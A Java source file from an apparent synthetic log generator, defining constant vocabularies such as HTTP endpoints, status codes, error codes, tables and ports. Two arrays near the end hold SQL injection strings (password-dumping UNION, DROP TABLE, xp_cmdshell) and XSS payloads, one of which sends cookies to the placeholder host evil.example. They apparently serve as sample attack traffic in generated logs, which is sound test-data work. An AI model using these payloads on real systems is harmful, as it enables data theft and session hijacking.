package io.synthlogs.engine;

/** The fixed word lists lines are drawn from. Constant data, shared by every generator. */
final class Vocabulary {
    static final String[] METHODS = {"GET", "POST", "PUT", "DELETE", "PATCH"};
    /** How common each of {@link #METHODS} is among requests. */
    static final double[] METHOD_SHARES = {0.62, 0.24, 0.07, 0.04, 0.03};
    static final double[] METHOD_WEIGHTS = Rng.cumulative(METHOD_SHARES);

    /** Paths with the methods they take; {@code #} is replaced by a number. */
    static final Endpoints ENDPOINTS = new Endpoints(
        "GET PUT PATCH DELETE /api/v1/users/#", "GET POST /api/v1/users", "GET POST /api/v1/orders",
        "GET PUT PATCH DELETE /api/v1/orders/#", "GET POST /api/v1/orders/#/items", "POST /api/v1/auth/login",
        "POST /api/v1/auth/refresh", "POST /api/v1/auth/logout", "GET POST /api/v1/payments", "GET /api/v1/payments/#",
        "GET PUT PATCH /api/v1/inventory/#", "GET POST /api/v1/products", "GET PUT PATCH DELETE /api/v1/products/#",
        "GET POST PUT DELETE /api/v1/cart", "GET /api/v1/search", "GET /api/v2/recommendations", "GET /health",
        "GET /metrics", "GET /", "GET /static/js/app.#.js", "POST /api/v1/shipping/quote",
        "GET /api/v1/notifications");
    static final Endpoints ADMIN_ENDPOINTS = new Endpoints(
        "GET POST /admin/users", "GET PUT /admin/config", "GET /api/v1/admin/export", "GET PUT /api/v1/users/#/roles",
        "GET /internal/metrics", "GET /api/v1/admin/audit-log");
    static final String[] LOGIN_ENDPOINTS = {"/api/v1/auth/login", "/login", "/api/v1/auth/token"};
    static final String[] SEARCH_ENDPOINTS = {"/api/v1/search", "/api/v1/products", "/api/v1/users", "/api/v1/orders"};

    /** A success by method: a GET may find its copy not modified, a POST creates, a DELETE has no body. */
    static final int[] STATUS_OK_GET = {200, 200, 200, 200, 200, 200, 200, 200, 200, 304};
    static final int[] STATUS_OK_POST = {201, 201, 200};
    static final int[] STATUS_OK_PUT = {200, 200, 204};
    static final int[] STATUS_OK_DELETE = {204, 204, 200};
    static final int[] STATUS_CLIENT_ERROR = {400, 401, 403, 404, 404, 404, 409, 422, 429};
    static final int[] STATUS_SERVER_ERROR = {500, 500, 502, 503, 504};

    static final String[] ERROR_CODES = {
        "ERR_TIMEOUT", "ERR_INTERNAL", "ERR_DB_CONNECTION", "ERR_UPSTREAM_UNAVAILABLE", "ERR_SERVICE_UNAVAILABLE",
        "ERR_DEADLOCK", "ERR_OUT_OF_MEMORY"};
    static final String[] CLIENT_ERROR_CODES = {"ERR_VALIDATION", "ERR_NOT_FOUND", "ERR_UNAUTHORIZED", "ERR_RATE_LIMITED"};
    static final String[] QUERY_TYPES = {"SELECT", "SELECT", "SELECT", "SELECT", "INSERT", "UPDATE", "DELETE"};
    static final Words TABLES = new Words(
        "users", "orders", "order_items", "payments", "inventory", "sessions", "products", "audit_log", "carts",
        "shipments");
    static final String[] RESOURCES = {"memory", "cpu", "disk", "connections"};
    static final Words NAMESPACES = new Words("default", "production", "monitoring", "kube-system", "payments", "ingress");
    static final Words QUEUES = new Words("orders.created", "payments.pending", "emails.outbound", "inventory.sync", "audit.events");
    static final Words TOPICS = new Words("order-events", "payment-events", "user-activity", "inventory-updates", "clickstream");
    static final Words JOBS = new Words("nightly-backup", "cache-warmup", "report-export", "session-cleanup", "index-rebuild");
    static final int[] PORTS = {80, 443, 8080, 8443, 5432, 6379, 27017, 9090, 3000, 9100};

    static final String[] SQL_PAYLOADS = {
        "' OR '1'='1", "1; DROP TABLE users--", "' UNION SELECT username, password FROM users--", "admin'--",
        "1' AND SLEEP(5)--", "1' AND 1=CONVERT(int,(SELECT @@version))--", "'; EXEC xp_cmdshell('whoami')--"};
    static final String[] XSS_PAYLOADS = {
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert('xss')",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>", "<iframe src=\"javascript:alert(`x`)\">",
        "'\"><body onload=alert(\"XSS\")>"};

    /** Fallback dependency names when the config has no application services. */
    static final String[] UPSTREAMS = {"auth-service", "payment-service", "user-service", "order-service"};

    private Vocabulary() {}
}
